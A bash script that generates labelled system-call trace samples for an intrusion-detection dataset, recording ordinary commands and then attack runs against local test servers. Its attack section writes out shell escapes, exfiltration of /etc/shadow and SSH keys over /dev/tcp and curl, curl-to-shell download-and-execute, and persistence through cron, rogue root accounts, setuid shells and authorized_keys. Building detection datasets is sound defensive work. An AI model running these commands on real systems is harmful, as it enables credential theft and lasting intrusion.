#!/usr/bin/env bash
# Regenerate the labelled sample of real system-call traces in data/sample/.
#
#   bash data/sample/record.sh [OUTDIR]      (default OUTDIR: this script's folder)
#
# Needs: root (some attack runs read the real /etc/shadow), x86_64 Linux,
# strace, python3 (/usr/bin/python3), coreutils, tar, gzip, mawk/gawk, findutils,
# curl, bash, dash, sed, and the kernel header asm/unistd_64.h (linux-libc-dev).
#
# Every traced program runs in a fresh temp dir ($T/work) on inputs made here
# with fixed seeds, in a clean environment (env -i, LC_ALL=C), stdin /dev/null.
# Network traffic goes only to servers started here on 127.0.0.1, each with a
# hard deadline; everything stops by itself.  Each run is recorded with
#   strace -f -qq -o RUN.strace CMD...
# and converted to UNM format (`pid syscall_number` per line) by
# strace_to_unm.py.  Output: OUTDIR/{training,validation,attack/<Type>}/<program>-<nn>.unm
# (the old .unm folders are replaced only when the whole recording succeeded).
set -euo pipefail

HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
OUT=${1:-$HERE}
PY=/usr/bin/python3
STRACE=${STRACE:-/usr/bin/strace}
CONVERT="$HERE/strace_to_unm.py"

for tool in "$STRACE" "$PY" curl tar gzip awk find bash dash sed timeout; do
  command -v "$tool" >/dev/null || { echo "record.sh: missing $tool" >&2; exit 1; }
done

T=$(mktemp -d /tmp/homeostat-sample.XXXXXX)
STAGE="$T/stage"
RAW="$T/raw"
W="$T/work"
mkdir -p "$STAGE" "$RAW" "$W"
SERVER_PIDS=()
cleanup() {
  for p in "${SERVER_PIDS[@]}"; do kill "$p" 2>/dev/null || true; done
  wait 2>/dev/null || true
  rm -rf "$T"
}
trap cleanup EXIT

CLEAN_ENV=(env -i PATH=/usr/bin:/bin:/usr/sbin:/sbin HOME="$W/home" LC_ALL=C TERM=dumb USER=root LOGNAME=root SHELL=/bin/sh)

# rec SPLIT CMD ARGS...   trace one run of CMD in $W; file name from basename(CMD)
rec() {
  local split=$1; shift
  local prog; prog=$(basename "$1")
  local dir="$STAGE/$split"
  mkdir -p "$dir"
  local n; n=$(find "$dir" -maxdepth 1 -name "$prog-*.unm" | wc -l)
  local name; name=$(printf '%s-%02d' "$prog" $((n + 1)))
  local raw="$RAW/${split//\//_}_$name.strace"
  local rc=0
  (cd "$W" && timeout 60 "${CLEAN_ENV[@]}" "$STRACE" -f -qq -o "$raw" "$@" \
      </dev/null >"$raw.stdout" 2>"$raw.stderr") || rc=$?
  if [ "$rc" -ne 0 ]; then
    echo "record.sh: $split/$name exited $rc: $*" >&2
    sed 's/^/    /' "$raw.stderr" | tail -5 >&2
    exit 1
  fi
  "$PY" "$CONVERT" "$raw" "$dir/$name.unm"
  printf '%-34s %6d calls  %s\n' "$split/$name" "$(wc -l <"$dir/$name.unm")" "$*"
}

# ---------------------------------------------------------------- inputs
mkdir -p "$W/home/.ssh" "$W/etc" "$W/out" "$W/fakeroot" "$T/bin"
cat >"$T/bin/make_inputs.py" <<'EOF'
import io, json, os, random, sys, tarfile
w = sys.argv[1]
os.chdir(w)

def words(path, seed, n):
    r = random.Random(seed)
    vocab = ["alpha", "beta", "gamma", "delta", "epsilon", "zeta", "eta", "theta",
             "iota", "kappa", "lambda", "mu"]
    with open(path, "w") as f:
        for _ in range(n):
            f.write(f"{r.choice(vocab)} {r.randint(1, 999)} {r.choice(vocab)}{r.randint(0, 9)}\n")

def access_log(path, seed, n):
    r = random.Random(seed)
    pages = ["/", "/index.html", "/about", "/img/logo.png", "/api/items", "/login", "/missing"]
    with open(path, "w") as f:
        for i in range(n):
            ip = f"127.0.{r.randint(0, 3)}.{r.randint(1, 254)}"
            meth = r.choice(["GET"] * 8 + ["POST", "HEAD"])
            page = r.choice(pages)
            code = 404 if page == "/missing" else r.choice([200] * 9 + [500])
            f.write(f'{ip} - - [27/Nov/2026:0{r.randint(0, 9)}:{r.randint(10, 59)}:{r.randint(10, 59)} +0000] '
                    f'"{meth} {page} HTTP/1.1" {code} {r.randint(100, 9000)}\n')

def sales(path, seed, n):
    r = random.Random(seed)
    with open(path, "w") as f:
        f.write("id,region,amount,item\n")
        for i in range(n):
            f.write(f"{i},{r.choice(['north', 'south', 'east', 'west'])},{r.randint(1, 999)},"
                    f"{r.choice(['bolt', 'nut', 'gear', 'spring', 'valve'])}\n")

def tree(root, seed, layout):
    r = random.Random(seed)
    for rel in layout:
        p = os.path.join(root, rel)
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, "w") as f:
            if rel.endswith((".c", ".h")):
                f.write("#include <stdio.h>\n")
                for k in range(r.randint(5, 40)):
                    f.write(f"int f{k}(int x) {{ return x * {r.randint(1, 99)}; }}\n")
                if rel.endswith("main.c"):
                    f.write("int main(void) { printf(\"%d\\n\", f0(2)); return 0; }\n")
            else:
                for k in range(r.randint(3, 30)):
                    f.write(f"line {k}: {r.random():.6f}\n")

os.makedirs("text", exist_ok=True); os.makedirs("logs", exist_ok=True); os.makedirs("data", exist_ok=True)
words("text/words_a.txt", 1, 400); words("text/words_b.txt", 2, 650); words("text/short_b.txt", 3, 40)
access_log("logs/access_a.log", 11, 250); access_log("logs/access_b.log", 12, 380)
sales("data/sales_a.csv", 21, 150); sales("data/sales_b.csv", 22, 260)
tree("src_a", 31, ["README.txt", "main.c", "util.c", "util.h", "lib/list.c", "lib/list.h",
                   "lib/map.c", "lib/map.h", "doc/notes.txt", "doc/todo.txt", "tests/t1.c"])
tree("src_b", 32, ["README.txt", "main.c", "io.c", "io.h", "net/sock.c", "net/sock.h",
                   "net/http/parse.c", "net/http/parse.h", "doc/design.txt", "doc/api/index.txt",
                   "tests/t_io.c", "tests/t_net.c", "tests/data/sample.txt"])

os.makedirs("www", exist_ok=True)
with open("www/index.html", "w") as f:
    f.write("<html><body><h1>homeostat sample</h1><p>static page</p></body></html>\n")
with open("www/notes.txt", "w") as f:
    f.write("".join(f"note {i}\n" for i in range(50)))
r = random.Random(41)
for name in ("data_a.json", "data_b.json"):
    with open("www/" + name, "w") as f:
        json.dump([{"id": i, "v": r.randint(0, 1000)} for i in range(80)], f)
with open("www/report.csv", "w") as f:
    f.write("".join(f"{i},{r.randint(0, 99)}\n" for i in range(120)))
# attack payloads served by the local web server
with open("www/x.sh", "w") as f:
    f.write("#!/bin/sh\nid\nuname -a\ncat /etc/passwd >/dev/null\necho owned > .owned\n")
with open("www/p.py", "w") as f:
    f.write("import os\nos.system('id; uname -a')\nopen('.owned', 'w').write('owned\\n')\n")

# fake secrets and config files (the real /etc/shadow is read by some attacks too)
r = random.Random(51)
import base64
key = base64.encodebytes(bytes(r.getrandbits(8) for _ in range(1200))).decode()
with open("home/.ssh/id_rsa", "w") as f:
    f.write("-----BEGIN FAKE PRIVATE KEY (homeostat sample, not a key)-----\n" + key +
            "-----END FAKE PRIVATE KEY-----\n")
os.chmod("home/.ssh/id_rsa", 0o600)
with open("home/.bashrc", "w") as f:
    f.write("export PS1='$ '\n")
with open("etc/passwd", "w") as f:
    f.write("root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
            "alice:x:1000:1000:Alice:/home/alice:/bin/bash\n")
with open("etc/shadow", "w") as f:
    f.write("root:*:20000:0:99999:7:::\nalice:!:20000:0:99999:7:::\n")
with open("etc/crontab", "w") as f:
    f.write("SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n")
os.utime("etc/crontab", (1700000000, 1700000000))

# an archive that drops a cron entry and a setuid shell copy when extracted
def add(t, name, data, mode):
    ti = tarfile.TarInfo(name); ti.size = len(data); ti.mode = mode; ti.mtime = 1700000000
    t.addfile(ti, io.BytesIO(data))
with tarfile.open("update.tar", "w") as t:
    add(t, "etc/cron.d/.sys", b"* * * * * root /usr/local/bin/.sh -p -c id\n", 0o644)
    add(t, "usr/local/bin/.sh", open("/bin/dash", "rb").read(), 0o4755)

# normal python programs
with open("stats.py", "w") as f:
    f.write('''import collections, statistics, sys
counts = collections.Counter()
nums = []
lines = 0
with open(sys.argv[1]) as f:
    for line in f:
        lines += 1
        for tok in line.replace(",", " ").split():
            if tok.isdigit():
                nums.append(int(tok))
            else:
                counts[tok] += 1
print("lines", lines)
if nums:
    print("numbers", len(nums), "mean", round(statistics.mean(nums), 2), "max", max(nums))
for tok, c in counts.most_common(int(sys.argv[2]) if len(sys.argv) > 2 else 5):
    print(tok, c)
''')
with open("csvsum.py", "w") as f:
    f.write('''import csv, json, sys
tot = {}
with open(sys.argv[1], newline="") as f:
    for row in csv.DictReader(f):
        tot[row[sys.argv[2]]] = tot.get(row[sys.argv[2]], 0) + int(row["amount"])
json.dump(tot, sys.stdout, sort_keys=True)
print()
''')
with open("get.py", "w") as f:
    f.write('''import json, sys, urllib.request
for url in sys.argv[1:]:
    with urllib.request.urlopen(url, timeout=10) as r:
        body = r.read()
    if url.endswith(".json"):
        print(url, len(json.loads(body)), "items")
    else:
        print(url, r.status, len(body), "bytes")
''')
with open("serve_n.py", "w") as f:
    f.write('''import functools, http.server, sys
portfile, n, root = sys.argv[1], int(sys.argv[2]), sys.argv[3]
handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=root)
srv = http.server.HTTPServer(("127.0.0.1", 0), handler)
srv.timeout = 20
with open(portfile + ".tmp", "w") as f:
    f.write(str(srv.server_address[1]))
import os
os.rename(portfile + ".tmp", portfile)
for _ in range(n):
    srv.handle_request()
srv.server_close()
''')
EOF
"$PY" "$T/bin/make_inputs.py" "$W"
cp "$W/text/words_a.txt" "$W/out/w1.txt"
cp "$W/text/words_b.txt" "$W/out/w2.txt"
cp "$W/logs/access_a.log" "$W/out/access_a.log"
cp "$W/logs/access_b.log" "$W/out/access_b.log"
gzip -c "$W/text/words_a.txt" >"$W/out/wa.gz"
gzip -c "$W/logs/access_b.log" >"$W/out/ab.gz"
gzip -c "$W/data/sales_b.csv" >"$W/out/sb.gz"
mkdir -p "$W/out/x1" "$W/out/x2" "$W/out/x3"
find "$W" -exec touch -h -d '2026-11-27 00:00:00' {} +
touch -d '2026-11-27 01:00:00' "$W/src_a/lib/map.c" "$W/src_b/net/http/parse.c"

# ---------------------------------------------------------------- local servers (untraced)
cat >"$T/bin/www.py" <<'EOF'
# static web server on 127.0.0.1, random free port written to a file, stops at a deadline
import functools, http.server, os, sys, threading, time
portfile, root, life = sys.argv[1], sys.argv[2], float(sys.argv[3])
class H(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *a): pass
srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(H, directory=root))
with open(portfile + ".tmp", "w") as f: f.write(str(srv.server_address[1]))
os.rename(portfile + ".tmp", portfile)
threading.Thread(target=srv.serve_forever, daemon=True).start()
time.sleep(life)
srv.shutdown()
EOF
cat >"$T/bin/sink.py" <<'EOF'
# TCP sink on 127.0.0.1: reads what a client sends (until EOF or 0.5 s idle),
# discards it, answers with an empty HTTP 200, closes. Stops at a deadline.
import os, socket, sys, time
portfile, life = sys.argv[1], float(sys.argv[2])
end = time.time() + life
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", 0)); s.listen(8); s.settimeout(0.5)
with open(portfile + ".tmp", "w") as f: f.write(str(s.getsockname()[1]))
os.rename(portfile + ".tmp", portfile)
while time.time() < end:
    try:
        c, _ = s.accept()
    except socket.timeout:
        continue
    c.settimeout(0.5)
    try:
        while c.recv(65536):
            pass
    except (socket.timeout, OSError):
        pass
    try:
        c.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
    except OSError:
        pass
    c.close()
EOF
cat >"$T/bin/client.py" <<'EOF'
# untraced client for the traced serve_n.py run: waits for its port file, then GETs
import os, sys, time, urllib.request
portfile, paths = sys.argv[1], sys.argv[2:]
for _ in range(200):
    if os.path.exists(portfile): break
    time.sleep(0.05)
port = open(portfile).read()
for p in paths:
    for attempt in range(50):
        try:
            urllib.request.urlopen(f"http://127.0.0.1:{port}{p}", timeout=10).read(); break
        except ConnectionRefusedError:
            time.sleep(0.05)
EOF
waitport() { for _ in $(seq 100); do [ -s "$1" ] && { cat "$1"; return; }; sleep 0.05; done; echo "no port in $1" >&2; exit 1; }
"$PY" "$T/bin/www.py" "$T/www.port" "$W/www" 900 >/dev/null 2>&1 & SERVER_PIDS+=($!)
"$PY" "$T/bin/sink.py" "$T/sink.port" 900 >/dev/null 2>&1 & SERVER_PIDS+=($!)
WWW=$(waitport "$T/www.port")
SINK=$(waitport "$T/sink.port")
URL="http://127.0.0.1:$WWW"

# serve_run SPLIT N PATHS...: trace the small python web service while an untraced client GETs
serve_run() {
  local split=$1 n=$2; shift 2
  rm -f "$T/serve.port"
  rec "$split" python3 serve_n.py "$T/serve.port" "$n" www &
  local p=$!
  "$PY" "$T/bin/client.py" "$T/serve.port" "$@"
  wait "$p"
}

# ================================================================ training (normal)
S=training
rec $S ls
rec $S ls -l src_a
rec $S ls -la src_a/lib
rec $S ls -R src_a
rec $S ls -1 text
rec $S ls -lh www
rec $S cat text/words_a.txt
rec $S cat -n src_a/main.c
rec $S cat logs/access_a.log
rec $S cat www/notes.txt data/sales_a.csv
rec $S cat src_a/README.txt
rec $S grep alpha text/words_a.txt
rec $S grep -c GET logs/access_a.log
rec $S grep -rn include src_a
rec $S grep -E ' (404|500) ' logs/access_a.log
rec $S grep -l -r main src_a
rec $S grep -w -i beta text/words_a.txt
rec $S sort text/words_a.txt
rec $S sort -n -k2 text/words_a.txt
rec $S sort -u -t, -k2,2 data/sales_a.csv
rec $S sort -r logs/access_a.log
rec $S sort -k3 -o out/sorted_a.txt text/words_a.txt
rec $S gzip -k -f out/w1.txt
rec $S gzip -l out/w1.txt.gz
rec $S gzip -t out/wa.gz
rec $S gzip -9 -f out/access_a.log
rec $S gunzip -c out/wa.gz
rec $S gunzip -t out/w1.txt.gz
rec $S gunzip -f out/access_a.log.gz
rec $S tar cf out/a.tar src_a
rec $S tar tf out/a.tar
rec $S tar czf out/a.tgz src_a text
rec $S tar tzf out/a.tgz
rec $S tar xf out/a.tar -C out/x1
rec $S tar tvf out/a.tar
rec $S find src_a -name '*.c'
rec $S find src_a -type f
rec $S find . -maxdepth 2 -type d
rec $S find src_a -name '*.c' -newer src_a/main.c
rec $S find src_a -size -2k -name '*.txt'
rec $S find src_a -name '*.h' -exec wc -l {} +
rec $S awk '{s += $2} END {print s, NR}' text/words_a.txt
rec $S awk -F, 'NR > 1 {a[$2] += $3} END {for (k in a) print k, a[k]}' data/sales_a.csv
rec $S awk '{print $1}' logs/access_a.log
rec $S awk 'NR % 10 == 0' text/words_a.txt
rec $S awk 'length($0) > 30 {n++} END {print n + 0}' src_a/util.c
rec $S awk -F, 'NR > 1 && $3 > 500 {print $4}' data/sales_a.csv
rec $S python3 stats.py text/words_a.txt
rec $S python3 stats.py data/sales_a.csv 3
rec $S python3 csvsum.py data/sales_a.csv region
rec $S python3 get.py "$URL/index.html" "$URL/data_a.json"
serve_run $S 3 /index.html /notes.txt /data_a.json
rec $S sh -c 'grep alpha text/words_a.txt | sort | uniq -c'
rec $S sh -c 'cat logs/access_a.log | wc -l'
rec $S sh -c 'ls src_a | head -3'
rec $S sh -c 'cut -d" " -f1 text/words_a.txt | sort | uniq -c | sort -rn | head -5'
rec $S sh -c 'gzip -c data/sales_a.csv > out/s.gz && gunzip -t out/s.gz'
rec $S sh -c 'awk "{print \$9}" logs/access_a.log | sort | uniq -c'
rec $S bash -c 'for f in src_a/*.c; do wc -l "$f"; done'
rec $S bash -c 'n=0; while read -r w c x; do n=$((n + c)); done < text/words_a.txt; echo $n'
rec $S bash -c '[[ -d out/x1 ]] && ls out/x1/src_a | wc -l'
rec $S curl -s "$URL/index.html"
rec $S curl -s -o out/d.json "$URL/data_a.json"
rec $S curl -sI "$URL/notes.txt"
rec $S curl -s "$URL/"
rec $S curl -sf "$URL/report.csv"

sleep 2
# ================================================================ validation (normal, held out)
S=validation
rec $S ls src_b
rec $S ls -l src_b/net
rec $S ls -la
rec $S ls -R src_b
rec $S ls -lt logs
rec $S cat text/words_b.txt
rec $S cat -n src_b/io.c
rec $S cat logs/access_b.log
rec $S cat text/short_b.txt src_b/README.txt
rec $S grep gamma text/words_b.txt
rec $S grep -c POST logs/access_b.log
rec $S grep -rn return src_b
rec $S grep -v ' 200 ' logs/access_b.log
rec $S grep -n -i kappa text/short_b.txt
rec $S sort text/words_b.txt
rec $S sort -n -k2 -r text/words_b.txt
rec $S sort -t, -k3,3n data/sales_b.csv
rec $S sort -u logs/access_b.log
rec $S gzip -k -f out/w2.txt
rec $S gzip -l out/ab.gz
rec $S gzip -6 -f out/access_b.log
rec $S gunzip -c out/sb.gz
rec $S gunzip -t out/ab.gz
rec $S gunzip -f out/access_b.log.gz
rec $S tar cf out/b.tar src_b
rec $S tar tf out/b.tar
rec $S tar czf out/b.tgz src_b data
rec $S tar xzf out/b.tgz -C out/x2
rec $S tar tvf out/b.tar
rec $S find src_b -name '*.h'
rec $S find src_b -type d
rec $S find . -maxdepth 1 -type f -name '*.py'
rec $S find src_b -newer src_b/main.c
rec $S find src_b -name '*.c' -exec wc -c {} +
rec $S awk '{s += $2} END {print s / NR}' text/words_b.txt
rec $S awk -F, 'NR > 1 {a[$4]++} END {for (k in a) print k, a[k]}' data/sales_b.csv
rec $S awk '$9 >= 400 {print $7}' logs/access_b.log
rec $S awk 'NR <= 5' text/short_b.txt
rec $S awk 'END {print NR}' src_b/net/sock.c
rec $S python3 stats.py text/words_b.txt 7
rec $S python3 stats.py logs/access_b.log
rec $S python3 csvsum.py data/sales_b.csv item
rec $S python3 get.py "$URL/notes.txt" "$URL/data_b.json" "$URL/report.csv"
serve_run $S 2 /data_b.json /
rec $S sh -c 'grep delta text/words_b.txt | sort -k2n | tail -3'
rec $S sh -c 'cat data/sales_b.csv | wc -c'
rec $S sh -c 'ls -l src_b | grep -c c'
rec $S sh -c 'cut -d, -f2 data/sales_b.csv | sort | uniq -c'
rec $S sh -c 'tar cf - src_b | gzip -c > out/b2.tgz'
rec $S bash -c 'for f in src_b/tests/*.c; do head -2 "$f"; done'
rec $S bash -c 'declare -A c; while read -r w n x; do c[$w]=1; done < text/short_b.txt; echo ${#c[@]}'
rec $S curl -s "$URL/notes.txt"
rec $S curl -s -o out/b.json "$URL/data_b.json"
rec $S curl -sI "$URL/index.html"
rec $S curl -sf "$URL/data_a.json"

# ================================================================ attacks
S=attack/shell_escape
rec $S find . -maxdepth 0 -exec /bin/sh -c 'id; cat /etc/passwd' ';'
rec $S find src_a -name main.c -exec /bin/sh -c 'id; uname -a' ';' -quit
rec $S awk 'BEGIN {system("/bin/sh -c id")}'
rec $S awk 'NR == 1 {system("/bin/sh -c \"id; cat /etc/passwd\"")}' text/words_a.txt
rec $S tar cf /dev/null src_a/README.txt --checkpoint=1 '--checkpoint-action=exec=/bin/sh -c id'
rec $S python3 -c 'import os; os.system("id")'

S=attack/exfiltration
rec $S bash -c "cat /etc/shadow > /dev/tcp/127.0.0.1/$SINK"
rec $S bash -c "exec 3<>/dev/tcp/127.0.0.1/$SINK; cat home/.ssh/id_rsa >&3; exec 3>&-"
rec $S python3 -c "import socket; s = socket.create_connection(('127.0.0.1', $SINK)); s.sendall(open('/etc/shadow', 'rb').read() + open('home/.ssh/id_rsa', 'rb').read()); s.close()"
rec $S curl -s --data-binary @home/.ssh/id_rsa "http://127.0.0.1:$SINK/"
rec $S sh -c "tar czf - home/.ssh /etc/shadow 2>/dev/null | base64 | curl -s --data-binary @- http://127.0.0.1:$SINK/"

S=attack/download_exec
rec $S sh -c "curl -s $URL/x.sh | sh"
rec $S sh -c "curl -s -o .x $URL/x.sh && chmod +x .x && ./.x"
rec $S bash -c "bash <(curl -s $URL/x.sh)"
rec $S bash -c "exec 3<>/dev/tcp/127.0.0.1/$WWW; printf 'GET /x.sh HTTP/1.0\r\nHost: 127.0.0.1\r\n\r\n' >&3; sed '1,/^\r\$/d' <&3 | bash"
rec $S python3 -c "import urllib.request as u; exec(u.urlopen('$URL/p.py').read())"

S=attack/persistence
rec $S sh -c "echo '* * * * * root /tmp/.cache/.x >/dev/null 2>&1' >> etc/crontab"
rec $S awk 'BEGIN {print "toor:x:0:0:root:/root:/bin/sh" >> "etc/passwd"; print "toor::20000:0:99999:7:::" >> "etc/shadow"}'
rec $S sh -c 'cp /bin/sh .sh && chmod u+s .sh && ls -l .sh'
rec $S python3 -c "import os; os.makedirs('home/.ssh', exist_ok=True); open('home/.ssh/authorized_keys', 'a').write('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEFAKEFAKE attacker\n'); os.chmod('home/.ssh/authorized_keys', 0o600); open('home/.bashrc', 'a').write('(/tmp/.cache/.x &) 2>/dev/null\n')"
rec $S tar xpf update.tar -C fakeroot
rec $S bash -c "echo 'alias sudo=\"/tmp/.cache/.x; sudo\"' >> home/.bashrc; echo '@reboot root /tmp/.cache/.x' >> etc/crontab; touch -r etc/passwd etc/crontab"

# ---------------------------------------------------------------- install
for d in training validation attack; do
  rm -rf "${OUT:?}/$d"
  cp -r "$STAGE/$d" "$OUT/$d"
done
echo "record.sh: wrote $(find "$OUT"/training "$OUT"/validation "$OUT"/attack -name '*.unm' | wc -l) trace files to $OUT"
